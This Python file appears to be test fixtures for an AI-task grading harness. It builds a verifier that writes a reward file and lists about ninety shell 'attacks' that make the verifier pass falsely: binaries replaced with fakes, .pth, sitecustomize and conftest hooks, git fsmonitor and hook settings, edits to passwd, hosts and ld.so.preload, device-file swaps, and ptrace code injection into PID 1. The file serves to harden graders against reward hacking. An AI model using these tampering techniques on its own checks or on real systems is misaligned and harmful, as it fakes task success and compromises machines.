"""Attacks on what a verifier runs or loads, a task whose test runs all of it, and honest work on such paths."""

from dataclasses import dataclass

BASE = "FROM harbortrainer/tools:bookworm\n"
SITE, STD, USER_SITE = "/usr/lib/python3/dist-packages", "/usr/lib/python3.11", ".local/lib/python3.11/site-packages"
# A pytest in miniature: settings and conftest beside the test and the working directory, plugins of installed packages.
PYTEST = r"""import importlib, importlib.util, json, os, sys
from importlib.metadata import entry_points
def load(path):
    spec = importlib.util.spec_from_file_location("conftest", path)
    spec.loader.exec_module(importlib.util.module_from_spec(spec))
def main():
    for place in ("/tests", "/", os.getcwd()):
        for name in ("pytest.ini", "pyproject.toml", "tox.ini"):
            if os.path.isfile(os.path.join(place, name)):
                sys.path[:0] = [place]
                for line in open(os.path.join(place, name)):
                    if "-p " in line: importlib.import_module(line.split("-p ")[1].strip(' "\n'))
        if os.path.isfile(os.path.join(place, "conftest.py")): load(os.path.join(place, "conftest.py"))
    for plugin in entry_points(group="pytest11"): plugin.load()
    sys.path[:0] = ["/tests"]
    import test_outputs
    try: test_outputs.test()
    except AssertionError: sys.exit(1)
"""
TEST_FLASK = "import flask\n"
TEST_OUTPUTS = 'def test():\n    assert open("/app/hello.txt").read() == "Hello\\n"\n'
UVX = """#!/bin/sh
[ -x "$HOME/.cache/uv/pytest" ] && exec "$HOME/.cache/uv/pytest"
[ -f "$HOME/.config/uv/uv.toml" ] && exec $(cat "$HOME/.config/uv/uv.toml")
exec python3 -P /opt/genuine/run.py
"""
INSTALLER = (
    "mkdir -p $HOME/.local/bin && echo 'PATH=\"$HOME/.local/bin:$PATH\"' > $HOME/.local/bin/env\n"
    "cp /opt/genuine/uvx $HOME/.local/bin/uvx\n"
)
# Makes PID 1 create /tmp/ran again and again, by ptrace: x86-64 code in the place where it sleeps.
PID1 = r"""import ctypes, os, struct
libc = ctypes.CDLL(None)
libc.ptrace.argtypes, libc.ptrace.restype = [ctypes.c_long] * 4, ctypes.c_long
registers = (ctypes.c_ulonglong * 27)()
assert libc.ptrace(16, 1, 0, 0) == 0
os.waitpid(1, 0x40000000)
libc.ptrace(12, 1, 0, ctypes.addressof(registers))
loop = b"\x48\x8d\x3d%s\xbe\x41\x02\0\0\xba\xb6\x01\0\0\xb8\x02\0\0\0\x0f\x05\x89\xc7\xb8\x03\0\0\0\x0f\x05"
loop += b"\x48\x8d\x3d%s\x31\xf6\xb8\x23\0\0\0\x0f\x05\xe9%s"
length, path = len(loop) - 6 + 12, b"/tmp/ran\0"
loop %= tuple(struct.pack("<i", n) for n in (length - 7, length + len(path) - 40, -length))
code = b"\x90" * 8 + loop + path + struct.pack("<qq", 0, 20_000_000)
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(registers[16])
    memory.write(code)
registers[16], registers[15] = registers[16] + 4, 2**64 - 1
libc.ptrace(13, 1, 0, ctypes.addressof(registers))
libc.ptrace(17, 1, 0, 0)
"""
FILES = {
    "pytest/__init__.py": PYTEST,
    "pytest/__main__.py": "from pytest import main\nmain()\n",
    "run.py": "from pytest import main\nmain()\n",
    "uvx": UVX,
    "install.sh": INSTALLER,
    "pass": "#!/bin/sh\nexit 0\n",
    "curl": "#!/bin/sh\ncat /evil/evil.sh\n",
    "evil.sh": "mkdir -p ~/.local/bin; cp /evil/pass ~/.local/bin/uvx\n"
    "echo 'PATH=~/.local/bin:$PATH' > ~/.local/bin/env; exit\n",
    "git": "#!/bin/sh\necho genuine\n",
    "exit.py": "import os\nos._exit(0)\n",
    "ran": "#!/bin/sh\n/usr/bin/touch /tmp/ran\n",
    "pid1.py": PID1,
}
DOCKERFILE = (
    BASE
    + f"""COPY pass curl evil.sh git exit.py ran pid1.py /evil/
COPY uvx run.py install.sh /opt/genuine/
COPY pytest {SITE}/pytest
RUN chmod +x /evil/* /opt/genuine/uvx && printf '#!/usr/bin/python3\\nfrom pytest import main\\nmain()\\n' \\
 > /usr/local/bin/pytest && chmod +x /usr/local/bin/pytest && useradd -m dev && mkdir /app && chown dev /app
RUN useradd -m -s /bin/bash judge && git config --system --add safe.directory '*' && git init -q /app/repo \\
 && cd /app/repo && echo a > file \\
 && git config user.email a@b && git config user.name n && git add file && git commit -qm one && chown -R dev . \\
 && python3 -m venv --without-pip /app/env && mkdir /app/src && touch /app/src/work.py && chown -R dev /app/src \\
 && mkdir {SITE}/flask && touch {SITE}/flask/__init__.py
WORKDIR /app
"""
)
NONE = "-o Dir::Etc::sourcelist=/dev/null -o Dir::Etc::sourceparts=/dev/null"
# The common ways to run a test, in which a verifier of a public task uses one: reward 1 if the one named by $1 passes.
TEST = f"""cd /app
case $1 in
apt | uvx)
[ $1 = uvx ] || apt-get update {NONE} > /dev/null
curl -LsSf file:///opt/genuine/install.sh | sh
source $HOME/.local/bin/env
uvx --with pytest pytest /tests/test_outputs.py -rA;;
module) python3 -m pytest /tests/test_outputs.py;;
script) pytest /tests/test_outputs.py;;
git) [ "$(git hash-object --stdin < /dev/null)" = genuine ];;
hosts) [ "$(getent hosts verifier.example | cut -d' ' -f1)" = 10.9.8.7 ];;
awk) [ -z "$(echo x | awk '{{print 1}}')" ];;
login) [ -n "$(bash -lc 'echo $LOGIN_HOOK')" ];;
preload) ls / 2>&1 | grep -q preload;;
iconv) [ "$(printf '\\351' | iconv -f ISO-8859-1 -t UTF-8)" != é ];;
jq) [ "$(echo '{{"items": []}}' | jq '.items | length')" = 3 ];;
null) [ "$(head -c 5 /dev/null | wc -c)" != 0 ];;
random) [ "$(head -c 9 /dev/urandom | cksum)" = "$(head -c 9 /dev/urandom | cksum)" ];;
*) rm -f /tmp/ran; cd /app
case $1 in
status) cd repo; git status > /dev/null;;
commit) git -C /app/repo commit --allow-empty -qm two;;
tmux) tmux new-session -d -s check; sleep 0.3; tmux kill-server;;
prove) echo 'print "1..0\\n"' > /tmp/x.t; prove /tmp/x.t;;
su) su judge -c true; su - judge -c true;;
venv) VENV=/app/env; $VENV/bin/python3 -c 1;;
path) PATH=/app/tools:$PATH; python3 -c 1;;
src) PYTHONPATH=/app/src python3 -c 'import work, difflib';;
flask) python3 /tests/test_flask.py; python3 -c 'import flask';;
wait) sleep 0.5;;
esac
[ -e /tmp/ran ];;
esac
if [ $? -eq 0 ]; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""


@dataclass(frozen=True)
class Attack:
    """`way`: the way of TEST that it wins. `silent`: it leaves caches, which are put back without being named."""

    script: str
    user: str = "root"
    way: str = "module"
    silent: bool = False


def _package(folder: str) -> str:
    made = f"{folder}/pytest"
    return f"mkdir -p {made}; cp /evil/exit.py {made}/__init__.py; cp /evil/exit.py {made}/__main__.py"


_PYC = f"""python3 - <<'E'
import importlib._bootstrap_external as b, os
for n in ("json/__init__", "json/decoder"):
    p = "{STD}/" + n + ".py"; s = os.stat(p); code = compile("import os; os._exit(0)", p, "exec")
    c = os.path.dirname(p) + "/__pycache__/" + os.path.basename(n) + ".cpython-311.pyc"
    os.makedirs(os.path.dirname(c), exist_ok=True)
    open(c, "wb").write(b._code_to_timestamp_pyc(code, int(s.st_mtime), s.st_size))
E"""
_ENTRY = (
    "d={0}/evil-1.dist-info; mkdir -p $d; cp /evil/exit.py {0}/evilplug.py\n"
    "printf '[pytest11]\\nevil = evilplug\\n' > $d/entry_points.txt\n"
    "printf 'Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n' > $d/METADATA"
)
_HOOK = "import os; os._exit(0)"
_RAN = "open('/tmp/ran', 'w')"
_RECORD = "d=/app/evil-1.{0}; mkdir $d; printf '[pytest11]\\nevil = evilplug\\n' > $d/entry_points.txt\n" + (
    "printf 'Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n' > $d/METADATA; cp $d/METADATA $d/PKG-INFO\n"
    "cp /evil/exit.py /app/evilplug.py"
)
_MONITOR = "config core.fsmonitor /evil/ran"
ATTACKS = {
    "curl-replaced": Attack("cp /evil/curl /usr/bin/curl", way="uvx"),
    "curl-shadowed": Attack("cp /evil/curl /usr/local/bin/curl", way="uvx"),
    "curl-by-a-link": Attack("ln -sf /evil/curl /usr/bin/curl", way="uvx"),
    "curlrc": Attack("echo 'url = file:///evil/evil.sh' > ~/.curlrc", way="uvx"),
    "curlrc-in-a-new-home": Attack(
        "mkdir /h; echo 'url = file:///evil/evil.sh' > /h/.curlrc; sed -i 's,:/root:,:/h:,' /etc/passwd", way="uvx"
    ),
    "account-before-root": Attack(
        "mkdir /h; echo 'url = file:///evil/evil.sh' > /h/.curlrc; sed -i '1i root:x:0:0:r:/h:/bin/bash' /etc/passwd",
        way="uvx",
    ),
    "home-by-a-link": Attack(
        "mkdir /h; echo 'url = file:///evil/evil.sh' > /h/.curlrc; mv /root /gone; ln -s /h /root", way="uvx"
    ),
    "uvx-shadowed": Attack("cp /evil/pass /usr/local/bin/uvx; mkdir -p ~/.local; touch ~/.local/bin", way="uvx"),
    "uv-cache": Attack("mkdir -p ~/.cache/uv; cp /evil/pass ~/.cache/uv/pytest", way="uvx"),
    "uv-cache-by-a-link": Attack(
        "mkdir -p /c/uv; cp /evil/pass /c/uv/pytest; rm -rf ~/.cache; ln -s /c ~/.cache", way="uvx"
    ),
    "uv-settings": Attack("mkdir -p ~/.config/uv; echo /evil/pass > ~/.config/uv/uv.toml", way="uvx"),
    "python-replaced": Attack("cp --remove-destination /evil/pass /usr/bin/python3.11"),
    "python-shadowed": Attack("cp /evil/pass /usr/local/bin/python3"),
    "python-link": Attack("ln -sf /evil/pass /usr/bin/python3"),
    "pytest-script": Attack("cp /evil/pass /usr/local/bin/pytest", way="script"),
    "pytest-package": Attack(f"cp /evil/exit.py {SITE}/pytest/__init__.py"),
    "pytest-package-made-again": Attack(f"rm -rf {SITE}/pytest; {_package(SITE)}"),
    "pytest-in-another-site": Attack(_package("/usr/local/lib/python3.11/dist-packages")),
    "pytest-in-the-users-site": Attack(_package(f"~/{USER_SITE}")),
    "sitecustomize": Attack(f"cp /evil/exit.py {SITE}/sitecustomize.py; rm {STD}/sitecustomize.py"),
    "sitecustomize-of-debian": Attack("cp /evil/exit.py /etc/python3.11/sitecustomize.py"),
    "usercustomize": Attack(f"mkdir -p ~/{USER_SITE}; cp /evil/exit.py ~/{USER_SITE}/usercustomize.py"),
    "pth": Attack(f"echo '{_HOOK}' > {SITE}/a.pth"),
    "pth-of-the-user": Attack(f"mkdir -p ~/{USER_SITE}; echo '{_HOOK}' > ~/{USER_SITE}/a.pth"),
    "pth-with-an-odd-name": Attack(f"echo '{_HOOK}' > \"{SITE}/$(printf 'a \\377\\n\"b').pth\""),
    "standard-library": Attack(f"echo '{_HOOK}' >> {STD}/json/__init__.py"),
    "standard-library-by-a-link": Attack(
        f"cp -a {STD} /std; echo '{_HOOK}' >> /std/json/__init__.py; mv {STD} /gone; ln -s /std {STD}"
    ),
    "bytecode": Attack(_PYC, silent=True),
    "plugin": Attack(_ENTRY.format(SITE)),
    "module-beside": Attack("cp /evil/exit.py /app/pytest.py"),
    "package-beside": Attack(_package("/app")),
    "standard-module-beside": Attack("cp /evil/exit.py /app/json.py"),
    "standard-package-beside": Attack("mkdir /app/json; cp /evil/exit.py /app/json/__init__.py"),
    "conftest-in-root": Attack("cp /evil/exit.py /conftest.py"),
    "conftest-beside": Attack("cp /evil/exit.py /app/conftest.py"),
    "settings-in-root": Attack(
        "printf '[pytest]\\naddopts = -p evilplug\\n' > /pytest.ini; cp /evil/exit.py /evilplug.py"
    ),
    "settings-beside": Attack(
        "printf '[tool.pytest.ini_options]\\naddopts = \"-p evilplug\"\\n' > /app/pyproject.toml; "
        "cp /evil/exit.py /app/evilplug.py"
    ),
    "folder-of-work-by-a-link": Attack(f"mkdir /w; {_package('/w')}; cd /; rm -rf /app; ln -s /w /app"),
    "git-replaced": Attack("cp --remove-destination /evil/git /usr/bin/git", way="git"),
    "git-shadowed": Attack("cp /evil/git /usr/local/bin/git", way="git"),
    "hosts": Attack("echo 10.9.8.7 verifier.example >> /etc/hosts", way="hosts"),
    "alternatives": Attack("ln -sf /evil/pass /etc/alternatives/awk", way="awk"),
    "folder-of-programs-by-a-link": Attack(
        "mkdir /p; cp /evil/pass /p/python3; rm -r /usr/local/bin; ln -s /p /usr/local/bin"
    ),
    "programs-moved": Attack(
        "cp -a /usr/bin /p; cp --remove-destination /evil/pass /p/python3; /p/mv /usr/bin /usr/gone; "
        "/p/ln -s /p /usr/bin"
    ),
    "apt-hook": Attack(
        "echo 'APT::Update::Pre-Invoke {\"cp /evil/curl /usr/local/bin/curl\"};' > /etc/apt/apt.conf.d/99x", way="apt"
    ),
    "apt-replaced": Attack("printf '#!/bin/sh\\ncp /evil/curl /usr/local/bin/\\n' > /usr/bin/apt-get", way="apt"),
    "login-profile": Attack(
        "echo 'export LOGIN_HOOK=1' > /etc/profile.d/x.sh; echo 'export LOGIN_HOOK=1' >> ~/.profile", way="login"
    ),
    "curlrc-as-dev": Attack("echo 'url = file:///evil/evil.sh' > ~/.curlrc", "dev", way="uvx"),
    "uv-cache-as-dev": Attack("mkdir -p ~/.cache/uv; cp /evil/pass ~/.cache/uv/pytest", "dev", way="uvx"),
    "usercustomize-as-dev": Attack(f"mkdir -p ~/{USER_SITE}; cp /evil/exit.py ~/{USER_SITE}/usercustomize.py", "dev"),
    "pth-as-dev": Attack(f"mkdir -p ~/{USER_SITE}; echo '{_HOOK}' > ~/{USER_SITE}/a.pth", "dev"),
    "pytest-as-dev": Attack(_package(f"~/{USER_SITE}"), "dev"),
    "plugin-as-dev": Attack(_ENTRY.format(f"~/{USER_SITE}"), "dev"),
    "local-by-a-link-as-dev": Attack(f"mkdir /app/l; ln -s /app/l ~/.local; {_package(f'~/{USER_SITE}')}", "dev"),
    "module-beside-as-dev": Attack("cp /evil/exit.py /app/pytest.py", "dev"),
    "conftest-beside-as-dev": Attack("cp /evil/exit.py /app/conftest.py", "dev"),
    "login-profile-as-dev": Attack("echo 'export LOGIN_HOOK=1' > ~/.bash_profile", "dev", way="login"),
    "record-of-a-package-beside": Attack(_RECORD.format("dist-info")),
    "record-of-an-egg-beside-as-dev": Attack(_RECORD.format("egg-info"), "dev"),
    "module-beside-of-an-installed-package": Attack(f'echo "{_RAN}" > /app/flask.py', way="flask"),
    "module-where-the-test-imports-from": Attack(f'echo "{_RAN}" > /app/src/difflib.py', way="src"),
    "module-where-the-test-imports-from-as-dev": Attack(f'echo "{_RAN}" > /app/src/difflib.py', "dev", way="src"),
    "hook-of-an-environment-beside": Attack(
        f'echo "import os; {_RAN}" > /app/env/lib/python3.11/site-packages/a.pth', way="venv"
    ),
    "python-of-an-environment-beside": Attack("cp --remove-destination /evil/ran /app/env/bin/python3", way="venv"),
    "tool-where-the-test-adds-to-path": Attack("mkdir /app/tools; cp /evil/ran /app/tools/python3", way="path"),
    "tool-where-the-test-adds-to-path-as-dev": Attack(
        "mkdir /app/tools; cp /evil/ran /app/tools/python3", "dev", way="path"
    ),
    "git-monitor": Attack(f"git -C /app/repo {_MONITOR}", way="status"),
    "git-monitor-as-dev": Attack(f"git -C /app/repo {_MONITOR}", "dev", way="status"),
    "git-monitor-of-the-user": Attack(f"git {_MONITOR.replace('config', 'config --global')}", way="status"),
    "git-monitor-of-all": Attack(f"git {_MONITOR.replace('config', 'config --system')}", way="status"),
    "git-settings-included": Attack(
        "printf '[core]\\nfsmonitor = /evil/ran\\n' > /srv/more; git -C /app/repo config include.path /srv/more",
        way="status",
    ),
    "git-settings-of-a-work-tree": Attack(
        "cd /app/repo; git config extensions.worktreeConfig true; cp .git/config .git/config.worktree\n"
        "git config --worktree core.fsmonitor /evil/ran",
        way="status",
    ),
    "git-filter": Attack(
        "cd /app/repo; git config filter.x.clean /evil/ran; echo '* filter=x' > .gitattributes; touch -d 2001-1-1 file",
        way="status",
    ),
    "git-repository-by-a-link": Attack(
        f"cd /app/repo; mv .git /srv/other; git --git-dir=/srv/other {_MONITOR}; ln -s /srv/other .git", way="status"
    ),
    "git-repository-by-a-file": Attack(
        f"cd /app/repo; mv .git /srv/other; git --git-dir=/srv/other {_MONITOR}; echo 'gitdir: /srv/other' > .git",
        way="status",
    ),
    "git-repository-within": Attack(
        f"cd /app/repo; git clone -q . in; git -C in {_MONITOR}; git -c advice.addEmbeddedRepo=false add in",
        way="status",
    ),
    "git-hook": Attack("cp /evil/ran /app/repo/.git/hooks/pre-commit", way="commit"),
    "git-hook-as-dev": Attack("cp /evil/ran /app/repo/.git/hooks/pre-commit", "dev", way="commit"),
    "git-folder-of-hooks": Attack(
        "mkdir /srv/h; cp /evil/ran /srv/h/pre-commit; git -C /app/repo config core.hooksPath /srv/h", way="commit"
    ),
    "preload": Attack("echo /evil/x.so > /etc/ld.so.preload", way="preload"),
    "character-set": Attack("cd /usr/lib/x86_64-linux-gnu/gconv; cp UTF-16.so ISO8859-1.so", way="iconv"),
    "jq-definitions": Attack("echo 'def length: 3;' > ~/.jq", way="jq"),
    "jq-definitions-as-dev": Attack("echo 'def length: 3;' > ~/.jq", "dev", way="jq"),
    "tmux-settings": Attack("echo 'run-shell /evil/ran' > /etc/tmux.conf", way="tmux"),
    "tmux-settings-of-the-user": Attack(
        "mkdir -p ~/.config/tmux; echo 'run-shell /evil/ran' > ~/.config/tmux/tmux.conf", "dev", way="tmux"
    ),
    "prove-settings": Attack("echo --exec=/evil/ran > /app/.proverc", way="prove"),
    "prove-settings-of-the-user": Attack("echo --exec=/evil/ran > ~/.proverc", "dev", way="prove"),
    "shell-of-an-account": Attack("usermod -s /evil/ran judge", way="su"),
    "home-of-an-account": Attack(
        "mkdir -m 777 /srv/h; echo /evil/ran > /srv/h/.bash_profile; usermod -d /srv/h judge", way="su"
    ),
    "environment-of-all": Attack(
        "echo BASH_ENV=/srv/env >> /etc/environment; echo /evil/ran > /srv/env; chmod 644 /srv/env", way="su"
    ),
    "link-for-the-null-device": Attack("ln -sf /dev/zero /dev/null", way="null"),
    "zeros-for-the-null-device": Attack("mv /dev/zero /dev/null", way="null"),
    "known-random-numbers": Attack("mv /dev/zero /dev/urandom", way="random"),
    "first-process": Attack("python3 /evil/pid1.py", way="wait"),
}


PACKAGES = (
    BASE
    + r"""RUN mkdir /packages && for n in tiny other; do mkdir -p /p/DEBIAN /p/usr/bin \
 && echo 'echo packaged' > /p/usr/bin/$n && chmod +x /p/usr/bin/$n \
 && printf "Package: $n\nVersion: 1\nArchitecture: all\nMaintainer: x <x@localhost>\n" > /p/DEBIAN/control \
 && echo 'Description: x' >> /p/DEBIAN/control && dpkg-deb --build /p /packages/$n.deb && rm -r /p; done
WORKDIR /app
"""
)

# As a task may ask: a program, a package for Python, another git, a name in /etc/hosts, an account, a setting of bash.
INSTALL = (
    "set -e; printf '#!/bin/sh\\necho tool {version} {text}\\n' > /usr/local/bin/tool; chmod +x /usr/local/bin/tool\n"
    f"d={SITE}; mkdir -p $d/mypack $d/mypack-{{version}}.dist-info\n"
    "echo 'V = \"{version}\"' > $d/mypack/__init__.py\n"
    "echo '{text}' > $d/mypack/extra-{version}.py; echo mypack > $d/mypack-{version}.dist-info/METADATA\n"
    "cp /usr/bin/true /usr/local/bin/git; echo '10.0.0.1 my.example # {text}' >> /etc/hosts\n"
    "echo 'alias x=\"{text}\"' >> ~/.bashrc; useradd -m worker; mkdir -p ~/.ssh; echo {version} > ~/.ssh/config\n"
)
INSTALLED = (
    "tool; python3 -c 'import mypack; print(mypack.V)'; ls -d /usr/lib/python3/dist-packages/mypack-*; "
    "cmp /usr/bin/true /usr/local/bin/git && echo git; grep -c my.example /etc/hosts; tail -1 ~/.bashrc; "
    "id -un worker; cat ~/.ssh/config"
)


def installed(version: str, text: str) -> list[str]:
    """What INSTALLED prints after INSTALL."""
    info = f"{SITE}/mypack-{version}.dist-info"
    return [f"tool {version} {text}", version, info, "git", "1", f'alias x="{text}"', "worker", version]
